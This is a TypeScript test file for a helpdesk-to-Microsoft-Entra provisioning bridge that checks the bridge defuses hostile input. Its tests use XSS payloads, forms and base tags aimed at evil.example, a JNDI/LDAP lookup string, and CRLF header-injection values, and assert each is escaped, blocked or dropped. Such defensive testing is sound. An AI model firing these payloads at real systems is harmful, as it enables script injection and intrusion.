import { requestOf, type Request } from './helpdesk.js';
import { exchange } from './exchange.js';
import { fateOf, sentInTime, ticketOf, toldOf } from './fate.js';
import { expectUnharmed } from './refusal.js';
import { openWorld, SERVICENOW, type World } from './world.js';
import { CATALOG_ITEMS } from '../../src/sandbox/servicenow/index.js';

let world: World;
beforeAll(async () => void (world = await openWorld()));
afterAll(() => world.close());

/** A request with the text wherever a stranger may write. */
function writtenWith(text: string): Request {
  const request = requestOf(world, 'Hire', { display_name: text, title: text, last_name: text });
  const { data } = request;
  const at = new Date(world.sandbox.clock.now()).toISOString();
  data['requester'] = { id: 'desk', name: text };
  data['approval'] = {
    ...{ value: 'approved', at },
    approvers: [{ id: 'boss', name: text, decision: 'approved', at }],
  };
  return request;
}

const pagesOf = (id: string, number: string) => [
  ...['/requests', '/attention', '/writebacks?writeback=delivered', '/deliveries?all=yes'],
  ...['', '/evidence', '/data', '/attempts', '/writeback'].map((tab) => `/requests/${id}${tab}`),
  `/t/helpdesk/${number}`,
];

test.each([
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><a href="javascript:alert(1)">x</a>',
  '<b hx-post=/requests hx-trigger=load>x</b>',
  '<base href=//evil.example>',
  '<form action=//evil.example><input name=q></form>',
])(
  'bad input 53: %s in any field is text on every page, and the policy blocks the rest',
  async (text) => {
    const request = writtenWith(text);
    expect(await fateOf(world, request)).toMatchObject({ state: 'mapped' });
    await toldOf(world, request.data.id, 'Microsoft Entra');
    const { id = '' } = (await ticketOf(world, request.data.id)) ?? {};
    let shown = 0;
    for (const path of pagesOf(id, request.data.id)) {
      const page = await exchange(`${world.url}${path}`);
      expect(`${path} ${page.status}`).toBe(`${path} 200`);
      expect(page.text).not.toContain(text);
      expect(page.headers['content-security-policy']).toMatch(
        /default-src 'none'; script-src 'self'.*form-action 'self'; base-uri 'none'.*require-trusted-types-for 'script'/,
      );
      if (page.text.includes(escaped(text))) shown++;
    }
    expect(shown).toBeGreaterThan(3);
  },
);

/** As the renderer escapes text. */
function escaped(text: string): string {
  return text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
}

test.each([
  '/requests.csv',
  '/requests?format=csv',
  '/export',
  '/deliveries.csv',
  '/api/v1/requests',
])('bad input 54: there is no export a cell could reach a spreadsheet by: %s', async (path) => {
  const page = await exchange(`${world.url}${path}`, { headers: { accept: 'text/csv' } });
  expect(page.headers['content-type']).toBe('text/html; charset=utf-8');
  expect(page.headers['content-disposition']).toBeUndefined();
});

test('bad input 55: line breaks, escapes and lookups in what was sent are in no line of the log', async () => {
  const nasty = 'a\r\nb\u001b[31m\u2028${jndi:ldap://evil.example/x}'.padEnd(5_000, 'x');
  await fateOf(world, requestOf(world, 'Hire', { title: nasty.slice(0, 100) }));
  await world.deliver({ sys_id: nasty, event: nasty }, { to: SERVICENOW });
  await exchange(`${world.url}/requests/${encodeURIComponent(nasty.slice(0, 100))}`);
  expect(world.logged.length).toBeGreaterThan(0);
  for (const line of world.logged) {
    expect(JSON.parse(line)).toMatchObject({ at: expect.any(String), event: expect.any(String) });
    expect(line).toMatch(/^[\x20-\x7e\u00a0-\u2027\u202f-\uffff]{1,4096}$/);
    expect(line).not.toMatch(/jndi|\[31m/);
  }
});

describe('bad input 56:', () => {
  test.each(['msg"1', "msg'1", 'msg;1', 'msg%0d%0aX-Evil:1', 'msg\\r\\n1'])(
    'a delivery id such as %s reaches no header: the answer has an id of the bridge’s own',
    async (id) => {
      const answer = await world.deliver(requestOf(world, 'Hire'), { id });
      expect(answer.status).toBe(202);
      expect(JSON.parse(answer.text)).toEqual({
        id: expect.stringMatching(/^[0-9a-f-]{36}$/),
        status: 'accepted',
      });
      expect(JSON.stringify(answer.headers)).not.toContain(id);
    },
  );

  test.each([
    '/requests/%0d%0aX-Evil:%201',
    '/t/helpdesk/%0d%0aX-Evil:%201',
    '/sign-in?code=%0d%0aX-Evil:1',
  ])('a line break in an address adds no header: %s', async (path) => {
    const answer = await exchange(`${world.url}${path}`);
    expect(answer.headers['x-evil']).toBeUndefined();
    expect(answer.headers['content-disposition']).toBeUndefined();
    expect(answer.status).toBeGreaterThanOrEqual(400);
  });
});

test('bad input 57: markup in an error of Microsoft Entra is harmless on the ticket and in the console', async () => {
  const { desk } = world.sandbox.servicenow;
  const [boss] = desk.users().filter((user) => user['user_name'] === 'ana.silva');
  const [site] = desk.sites();
  const item = desk.order(
    CATALOG_ITEMS.newHire,
    {
      ...{ first_name: 'Nina', last_name: 'Ito', employee_number: 'E57', job_title: 'Clerk' },
      ...{ start_date: new Date(world.sandbox.clock.now()).toISOString().slice(0, 10) },
      ...{ employee_type: 'Employee', department: 'Sales', manager: String(boss?.['sys_id']) },
      location: String(site?.['sys_id']),
    },
    'miguel.santos',
  );
  const ref = String(item?.['sys_id']);
  desk.decide(String(desk.ticket(ref)?.approvals[0]?.row['sys_id']), 'approved', '');
  await sentInTime(world, 'E57');
  world.sandbox.entra.faults.add({
    ...{ id: 'markup', on: 'logs' },
    effect: { is: 'status', status: 200, body: { value: [failedRow('E57')] } },
  });
  const note = await world.until(() =>
    (desk.ticket(ref)?.notes ?? [])
      .map((one) => String(one['value']))
      .find((text) => text.includes('could not be done')),
  );
  world.sandbox.entra.faults.clear('markup');
  expect(note).not.toMatch(/\[\s*\/?\s*code\s*\]/i);
  const { id = '' } = (await ticketOf(world, ref)) ?? {};
  for (const tab of ['', '/evidence', '/attempts', '/writeback'])
    expect(await world.page(`/requests/${id}${tab}`)).not.toContain('<b>bold');
  await expectUnharmed(world);
});

function failedRow(externalId: string) {
  const { jobId } = world.bridge.config.targets[0]!;
  const markup = '[code]<b>bold</b><script>alert(1)</script>[/code]';
  return {
    ...{ id: 'row-57', activityDateTime: new Date(world.sandbox.clock.now()).toISOString(), jobId },
    ...{ provisioningAction: 'create', sourceIdentity: { id: externalId, displayName: markup } },
    provisioningStatusInfo: {
      status: 'failure',
      errorInformation: { errorCode: markup, reason: markup },
    },
  };
}
